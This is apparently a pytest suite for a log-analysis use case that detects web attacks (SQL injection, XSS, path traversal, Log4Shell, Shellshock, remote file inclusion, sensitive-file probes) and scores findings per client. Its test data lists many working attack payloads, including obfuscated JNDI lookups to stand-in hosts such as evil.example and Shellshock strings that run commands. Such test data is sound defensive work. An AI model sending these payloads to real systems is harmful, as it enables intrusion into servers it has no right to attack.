"""The web-attacks use case's classifiers and scoring, and its grok pattern on real line formats.

Nothing here starts Spark: `bin/datashark test conf/web-attacks` runs the use case end to end.
"""

from __future__ import annotations

from datetime import datetime, timezone
from pathlib import Path
from types import ModuleType

import pytest

from datashark.config.usecase import read_usecase
from datashark.detect.windows import WindowResult
from datashark.errors import ConfLocation
from datashark.events.parsing import EventError, EventParser
from datashark.loading.codeimport import import_file, unique_module_name

REPO = Path(__file__).resolve().parents[2]
FOLDER = REPO / "conf" / "web-attacks"
CONF = FOLDER / "web-attacks.conf"


@pytest.fixture(scope="module")
def wa() -> ModuleType:
    path = FOLDER / "web-attacks.py"
    return import_file(path, unique_module_name("web_attacks_unit", path))


@pytest.fixture(scope="module")
def parser() -> EventParser:
    conf = read_usecase(CONF).conf
    return EventParser(
        conf["format"],
        where=ConfLocation(str(CONF)),
        grok_pattern=conf["grok_pattern"],
        grok_patterns_dir=FOLDER / conf["grok_patterns_dir"],
    )


# ----------------------------------------------------------------------------- signatures

ATTACKS = [
    ("sql_injection", "/index.php?id=1%27%20or%20%271%27=%271"),
    ("sql_injection", "/item.php?id=1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x7176,0x71)--+-"),
    ("sql_injection", "/item.php?id=1%2520union%2520select%25201,2,3"),
    ("sql_injection", "/item.php?id=1/**/UNION/**/SELECT/**/1,2"),
    ("sql_injection", "/p?id=1 AND 1234=1234"),
    ("sql_injection", "/p?id=1' AND SLEEP(5)--"),
    ("sql_injection", "/p?id=1;DROP TABLE users--"),
    ("sql_injection", "/p?id=1 and (select 1 from dual)"),
    ("sql_injection", "/p?user=admin%27--%20"),
    ("xss", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("xss", "/search?q=&lt;script&gt;alert(1)"),
    ("xss", "/s?q=%22%3E%3Csvg%20onload%3Dalert%281%29%3E"),
    ("xss", "/s?q=%253Cimg%2520src%253Dx%2520onerror%253Dprompt(1)%253E"),
    ("xss", "/go?to=JaVaScRiPt:alert(1)"),
    ("xss", "/s?q=%u003Cscript%u003E"),
    ("path_traversal", "/../../../../etc/passwd"),
    ("path_traversal", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd"),
    ("path_traversal", "/download?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"),
    ("path_traversal", "/static/..%5c..%5cboot.ini"),
    ("path_traversal", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
    ("path_traversal", "/%252E%252E%252Ffoo"),
    ("path_traversal", "/static/%2e%2e/app.py"),
    ("xss", "/s?q=%3Cframeset%20onload=x%3E"),
    ("log4shell", "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
    ("log4shell", "/$%7Bjndi:rmi://evil.example/a%7D"),
    ("shellshock", "/cgi-bin/a.sh?()%20%7B%20:;%20%7D;%20echo"),
    ("remote_file_inclusion", "/index.php?page=http://198.51.100.9/shell.txt?"),
    ("remote_file_inclusion", "/index.php?page=php://filter/convert.base64-encode/resource=index.php"),
    ("remote_file_inclusion", "/index.php?mosConfig_absolute_path=http://evil.example/r57.txt%00"),
    ("remote_file_inclusion", "/x.php?inc=data://text/plain;base64,PD9waHA="),
    ("sensitive_file", "/.env"),
    ("sensitive_file", "/api/.env.production"),
    ("sensitive_file", "/.git/config"),
    ("sensitive_file", "/wp-config.php.bak"),
    ("sensitive_file", "/backup.zip"),
    ("sensitive_file", "/example.com.tar.gz"),
    ("sensitive_file", "/db.sql"),
    ("sensitive_file", "/phpinfo.php"),
    ("sensitive_file", "/server-status"),
    ("sensitive_file", "/index.php~"),
    ("sensitive_file", "/config.php.old"),
    ("sensitive_file", "/read?file=/etc/passwd"),
]


@pytest.mark.parametrize(("category", "target"), ATTACKS)
def test_each_attack_falls_in_its_category(wa: ModuleType, category: str, target: str) -> None:
    assert category in wa.target_signals(target)


BENIGN = [
    "/",
    "/search?q=select+a+union+rep",
    "/search?q=trade+union+select+committee",
    "/search?q=how+to+use+union+select+in+sql",
    "/search?q=O%27Reilly+or+Manning",
    "/search?q=red+alert+(movie)",
    "/search?q=drop+table+tennis%3B+insert+coin",
    "/search?q=%22exact+phrase%22+-excluded",
    "/search?q=john.old",
    "/login?next=https%3A%2F%2Fexample.com%2Fdashboard%3Ftab%3D2",
    "/pdfjs/web/viewer.html?file=https://cdn.example.com/report.pdf",
    "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025&utm_content=hero+banner&fbclid=IwAR3",
    "/api/items?filter=%7B%22name%22%3A%22x%22%2C%22tags%22%3A%5B%22a%22%5D%7D",
    "/jira/issues/?jql=project%20%3D%20OPS%20AND%20(status)%20OR%20type%20%3D%20Bug",
    "/blog/2015/05/select-union-tips.html",
    "/articles/onload-event-explained",
    "/files/logstash-1.4.2.tar.gz",
    "/misc/Title.php.txt",
    "/docs/../img/a.png",
    "/x?a=1&copy=2&lt=3",
    "/misc/nmh//%22file://$file/%22",
    "/projects/xdotool/+++++Result:+chosen+nickname+%22someone%22;sent;",
    "/.well-known/acme-challenge/abc",
    "/~alice/",
    "/docs/java/jndi-lookup-tutorial.html",
    "/search?q=jndi+ldap",
    "/mail?template=Hello+%24%7Buser.name%7D",
    "/config?name=${jndi_datasource}",
    "/search?q=function()+%7B+return+1%3B+%7D",
    "/search?q=const+f+%3D+()+%3D%3E+%7B+go()%3B+%7D",
    "/img/a..b.png",
    "/files/v1.2..1.3.diff",
]


@pytest.mark.parametrize("target", BENIGN)
def test_benign_targets_fall_in_no_category(wa: ModuleType, target: str) -> None:
    assert wa.target_signals(target) == []


def test_decoding_covers_once_twice_plus_and_entities(wa: ModuleType) -> None:
    forms = wa.decoded_forms("/a?q=%253Cb%253E+x&amp;y").split("\n")
    assert "/a?q=%3Cb%3E+x&amp;y" in forms  # once
    assert "/a?q=<b> x&amp;y" in forms  # twice, + as a space
    assert "/a?q=<b> x&y" in forms  # HTML entities


@pytest.mark.parametrize(
    ("agent", "tool"),
    [
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "nikto"),
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nmap"),
        ("Mozilla/5.0 zgrab/0.x", "zgrab"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "nuclei"),
        ("gobuster/3.6", "gobuster"),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "wpscan"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0 Safari/537.36", None),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", None),
        ("Vega Sicilia fan club browser", None),
        ("Zap Zap Messenger", None),
        (None, None),
    ],
)
def test_scanner_agents(wa: ModuleType, agent: str | None, tool: str | None) -> None:
    assert wa.scanner_name(agent) == tool


JNDI_LOOKUPS = [
    "${jndi:ldap://198.51.100.9:1389/a}",
    "${jndi:rmi://x/a}",
    "${jndi:dns://x/a}",
    "${jndi:ldaps://x/a}",
    "${jndi:iiop://x/a}",
    "${jndi:corba://x/a}",
    "${jndi:nds://x/a}",
    "${jndi:http://x/a}",
    "${JnDi:ldap://x/a}",
    "${${lower:j}ndi:ldap://x/a}",
    "${${upper:j}${lower:N}di:ldap://x/a}",
    "${${lower:${lower:j}}ndi:ldap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
    "${jndi:ldap://${env:USER}.${hostName}.x.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}",
    "%24%7Bjndi:ldap://x/a%7D",
    "%2524%257Bjndi%253Aldap%253A%252F%252Fx%252Fa%257D",
    "${jndi:ldap://x.example/a",  # cut off by the logger
]


@pytest.mark.parametrize("text", JNDI_LOOKUPS)
def test_jndi_lookups_are_log4shell(wa: ModuleType, text: str) -> None:
    assert wa.header_signals(wa.decoded_forms(text)) == ["log4shell"]


@pytest.mark.parametrize(
    "text",
    [
        "jndi lookup",
        "/wiki/JNDI:Naming",
        "${user.name}",
        "${env:HOME}/bin",
        "${jndi_datasource}",
        "${lower:jndi}",  # resolves to the word, not to a lookup
        "${${lower:a}${lower:b}}",
        "${" * 50 + "x" + "}" * 50,
    ],
)
def test_templates_and_the_word_jndi_are_no_log4shell(wa: ModuleType, text: str) -> None:
    assert not wa.jndi_lookup(wa.decoded_forms(text))


@pytest.mark.parametrize(
    "text",
    [
        "() { :; }; /bin/bash -c id",
        "() { :;};echo",
        "(){:;};/usr/bin/id",
        "() { _; } >_[$($())] { echo hi; }",
        "() { ignored; }; echo",
        "() { (a)=>\\' bash -c 'echo date'",
        "%28%29%20%7B%20%3A%3B%20%7D%3B%20echo",
    ],
)
def test_bash_function_definitions_are_shellshock(wa: ModuleType, text: str) -> None:
    assert wa.header_signals(wa.decoded_forms(text)) == ["shellshock"]


@pytest.mark.parametrize(
    "text",
    [
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
        "SomeApp/1.0 () {build 42}",
        "function () { return 1; }",
        "function() { return 1; }",
        "$(function() { init(); })",
        "foo() { bar; }",
        "const f = () => { go(); }",
        "()",
    ],
)
def test_parentheses_and_javascript_are_no_shellshock(wa: ModuleType, text: str) -> None:
    assert wa.header_signals(wa.decoded_forms(text)) == []


# ----------------------------------------------------------------------------- parsing


LINES = {
    "combined": '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/1.1" 404 162 "-" "curl/8.5.0"',
    "common": '203.0.113.7 - alice [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/1.1" 404 -',
    "vhost_combined": (
        'www.example.com:443 203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/1.1" 404 - "-" "-"'
    ),
    "ipv6": '2001:db8::7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/2.0" 404 5 "-" "-"',
    "vhost_ipv6": 'example.org:80 2001:db8::7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/1.0" 404 5',
    "nginx_xff": '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/1.1" 404 5 "-" "x" "10.0.0.1"',
    "escaped": (
        '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env?a=\\"b\\" HTTP/1.1" 404 5 "-" "a \\"q\\" b"'
    ),
}


@pytest.mark.parametrize("name", sorted(LINES))
def test_line_formats_parse_to_a_classified_request(wa: ModuleType, parser: EventParser, name: str) -> None:
    request = wa.classify(parser.parse(LINES[name]))
    assert request["client"] in ("203.0.113.7", "2001:db8::7")
    assert request["@timestamp"] == datetime(2025, 3, 3, 9, 0, 9, tzinfo=timezone.utc)
    assert request["signals"] == ["sensitive_file"]
    assert request["not_found_path"] == "/.env"


def test_vhost_is_kept(wa: ModuleType, parser: EventParser) -> None:
    assert wa.classify(parser.parse(LINES["vhost_combined"]))["vhost"] == "www.example.com"


def test_escaped_quotes_are_unescaped(wa: ModuleType, parser: EventParser) -> None:
    request = wa.classify(parser.parse(LINES["escaped"]))
    assert request["target"] == '/.env?a="b"'


def test_a_line_cut_off_in_a_quoted_field_does_not_parse(parser: EventParser) -> None:
    with pytest.raises(EventError):
        parser.parse(
            '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0 (X'
        )


def test_a_request_line_with_spaces_is_read_from_rawrequest(wa: ModuleType, parser: EventParser) -> None:
    line = '203.0.113.7 - - [03/Mar/2025:10:00:09 +0000] "GET /i?id=1 union select 1,2 HTTP/1.1" 200 5'
    request = wa.classify(parser.parse(line))
    assert request["target"] == "/i?id=1 union select 1,2"
    assert request["signals"] == ["sql_injection"]


def test_exploits_in_headers_are_found_and_sampled(wa: ModuleType, parser: EventParser) -> None:
    stamp = '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET / HTTP/1.1" 200 5'
    agent = wa.classify(parser.parse(stamp + ' "-" "${${lower:j}ndi:ldap://x/a}"'))
    assert agent["signals"] == ["log4shell"]
    assert agent["sample"] == "log4shell User-Agent: ${${lower:j}ndi:ldap://x/a}"
    referrer = wa.classify(parser.parse(stamp + ' "() { :; }; id" "Mozilla/5.0"'))
    assert referrer["signals"] == ["shellshock"]
    assert referrer["sample"] == "shellshock Referer: () { :; }; id"
    forwarded = wa.classify(parser.parse(stamp + ' "-" "Mozilla/5.0" "${jndi:dns://x/a}"'))
    assert forwarded["signals"] == ["log4shell"]
    assert forwarded["sample"].startswith("log4shell X-Forwarded-For: ")


def test_a_target_signal_is_sampled_before_a_header_one(wa: ModuleType, parser: EventParser) -> None:
    line = '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/1.1" 404 5 "-" "${jndi:ldap://x/a}"'
    request = wa.classify(parser.parse(line))
    assert request["signals"] == ["sensitive_file", "log4shell"]
    assert request["sample"] == "sensitive_file /.env"


def test_the_quoted_field_after_the_agent_is_kept(parser: EventParser) -> None:
    event = parser.parse(LINES["nginx_xff"])
    assert event["forwarded_for"] == '"10.0.0.1"'
    assert parser.parse(LINES["combined"])["forwarded_for"] is None


# ----------------------------------------------------------------------------- behind proxies

TRUSTED = ("10.0.0.0/24", "2001:db8:ffff::/48")


@pytest.fixture(scope="module")
def proxies(wa: ModuleType):
    return wa.trusted_proxies({"client_from_forwarded": "true", "trusted_proxies": ", ".join(TRUSTED)})


@pytest.mark.parametrize(
    ("peer", "forwarded_for", "client"),
    [
        ("10.0.0.2", "203.0.113.7", "203.0.113.7"),
        ("10.0.0.2", "198.51.100.1, 203.0.113.7", "203.0.113.7"),  # the left entry is the client's word
        ("10.0.0.2", "203.0.113.7, 10.0.0.9", "203.0.113.7"),  # through two trusted proxies
        ("10.0.0.2", "203.0.113.7:5123", "203.0.113.7"),
        ("10.0.0.2", "[2001:db8::7]:443", "2001:db8::7"),
        ("2001:db8:ffff::2", "2001:DB8:0::7", "2001:db8::7"),
        ("10.0.0.2", "10.0.0.8, 10.0.0.9", "10.0.0.8"),  # all trusted: the left-most
        ("10.0.0.2", "unknown", "10.0.0.2"),
        ("10.0.0.2", "203.0.113.7, unknown", "10.0.0.2"),  # no address: stop at the proxy
        ("10.0.0.2", "www.example.com", "10.0.0.2"),  # no X-Forwarded-For at all
        ("10.0.0.2", None, "10.0.0.2"),
        ("203.0.113.5", "198.51.100.1", "203.0.113.5"),  # an untrusted peer's header is ignored
        ("proxy.example.com", "198.51.100.1", "proxy.example.com"),
    ],
)
def test_client_behind_trusted_proxies(
    wa: ModuleType, proxies, peer: str, forwarded_for: str | None, client: str
) -> None:
    assert wa.client_address(peer, forwarded_for, proxies) == client


def test_forwarded_for_is_ignored_unless_turned_on(wa: ModuleType, parser: EventParser) -> None:
    assert wa.trusted_proxies({}) == ()
    assert wa.trusted_proxies({"client_from_forwarded": "false", "trusted_proxies": "10.0.0.0/8"}) == ()
    request = wa.classify(parser.parse(LINES["nginx_xff"].replace("203.0.113.7", "10.0.0.2", 1)))
    assert (request["client"], request["proxy"]) == ("10.0.0.2", None)


def test_classify_keys_by_the_forwarded_client(wa: ModuleType, parser: EventParser, proxies) -> None:
    line = LINES["nginx_xff"].replace("203.0.113.7", "10.0.0.2", 1).replace('"10.0.0.1"', '"203.0.113.9"')
    request = wa.classify(parser.parse(line), proxies)
    assert (request["client"], request["proxy"]) == ("203.0.113.9", "10.0.0.2")


def test_trusted_proxies_accepts_lists_and_names_bad_values(wa: ModuleType) -> None:
    conf = {"client_from_forwarded": "yes", "trusted_proxies": ["10.0.0.1", "fd00::/8"]}
    networks = wa.trusted_proxies(conf)
    assert [str(network) for network in networks] == ["10.0.0.1/32", "fd00::/8"]
    with pytest.raises(ValueError, match="'trusted_proxies': needed when client_from_forwarded = true"):
        wa.trusted_proxies({"client_from_forwarded": "true"})
    with pytest.raises(ValueError, match=r"'trusted_proxies': not an address or CIDR: 'proxy\.lan'"):
        wa.trusted_proxies({"client_from_forwarded": "true", "trusted_proxies": "10.0.0.0/8 proxy.lan"})
    with pytest.raises(ValueError, match="'client_from_forwarded': true or false"):
        wa.trusted_proxies({"client_from_forwarded": "sometimes"})


def test_json_access_log_fields(wa: ModuleType, proxies) -> None:
    event = {
        "remote_addr": "10.0.0.2",
        "request": "GET /?q=%24%7Bjndi:ldap://x/a%7D HTTP/1.1",
        "status": 404,
        "http_user_agent": "sqlmap/1.8",
        "http_referer": "",
        "http_x_forwarded_for": "203.0.113.9",
        "server_name": "shop.example.com",
    }
    request = wa.classify(event, proxies)
    assert request["client"] == "203.0.113.9"
    assert request["target"] == "/?q=%24%7Bjndi:ldap://x/a%7D"
    assert request["status"] == "404"
    assert request["not_found_path"] == "/"
    assert request["vhost"] == "shop.example.com"
    assert request["signals"] == ["log4shell", "scanner_agent"]
    both = {"remote_addr": "10.0.0.2", "request_uri": "/a?b=1", "request": "GET /x HTTP/1.1"}
    assert wa.access_fields(both)["target"] == "/a?b=1"


# ----------------------------------------------------------------------------- scoring


def window(wa: ModuleType, **values: int) -> WindowResult:
    start = datetime(2025, 3, 3, 9, 0, tzinfo=timezone.utc)
    measured = {category: 0 for category in wa.CATEGORIES if category != wa.NOT_FOUND_FLOOD}
    measured.update(not_found=0, not_found_paths=0, suspicious_requests=1, first_seen=start, last_seen=start)
    measured.update(samples=[], not_found_samples=[], scanners=[], vhosts=[], proxies=[])
    measured.update(values)
    return WindowResult("203.0.113.7", start, start.replace(minute=10), measured)


def test_one_category_scores_its_base(wa: ModuleType) -> None:
    key, score, metadata = wa.finding(window(wa, sql_injection=1), wa.settings({}))
    assert (key, score) == ("203.0.113.7", 70.0)
    assert (metadata["signals"], metadata["level"]) == ("sql_injection", "high")
    assert metadata["mitre"] == ["T1190"]


def test_exploits_score_at_least_like_sql_injection(wa: ModuleType) -> None:
    tuning = wa.settings({})
    for category, mitre in (("log4shell", ["T1190"]), ("shellshock", ["T1059.004", "T1190"])):
        _, score, metadata = wa.finding(window(wa, **{category: 1}), tuning)
        assert score == 75.0 >= wa.finding(window(wa, sql_injection=1), tuning)[1]
        assert (metadata["signals"], metadata["mitre"]) == (category, mitre)
    _, score, metadata = wa.finding(window(wa, log4shell=1, shellshock=1, scanner_agent=1), tuning)
    assert score == 85.0
    assert (metadata["signals"], metadata["level"]) == ("log4shell shellshock scanner_agent", "critical")


def test_categories_combine(wa: ModuleType) -> None:
    _, score, metadata = wa.finding(window(wa, sql_injection=1, scanner_agent=1), wa.settings({}))
    assert score == 75.0
    assert metadata["signals"] == "sql_injection scanner_agent"


def test_score_grows_with_requests_up_to_ten_more(wa: ModuleType) -> None:
    tuning = wa.settings({})
    scores = [wa.finding(window(wa, xss=n), tuning)[1] for n in (1, 5, 50, 500)]
    assert scores[0] == 60.0 < scores[1] < scores[2] == scores[3] == 70.0


def test_not_found_flood_needs_the_threshold(wa: ModuleType) -> None:
    tuning = wa.settings({})
    assert wa.finding(window(wa, not_found=19, not_found_paths=19), tuning) is None
    _, score, metadata = wa.finding(window(wa, not_found=20, not_found_paths=20), tuning)
    assert (score, metadata["signals"], metadata["level"]) == (30.0, "not_found_flood", "low")


def test_a_window_without_categories_is_no_finding(wa: ModuleType) -> None:
    assert wa.finding(window(wa, not_found=3, not_found_paths=3), wa.settings({})) is None


def test_conf_keys_override_defaults(wa: ModuleType) -> None:
    tuning = wa.settings({"score_sql_injection": "90", "min_requests": "2"})
    assert wa.finding(window(wa, sql_injection=1), tuning) is None
    assert wa.finding(window(wa, sql_injection=2), tuning)[1] == 90.0


def test_a_bad_conf_value_names_its_key(wa: ModuleType) -> None:
    with pytest.raises(ValueError, match="'window_minutes'"):
        wa.settings({"window_minutes": "ten"})
    with pytest.raises(ValueError, match="'not_found_paths_threshold'"):
        wa.settings({"not_found_paths_threshold": "0"})
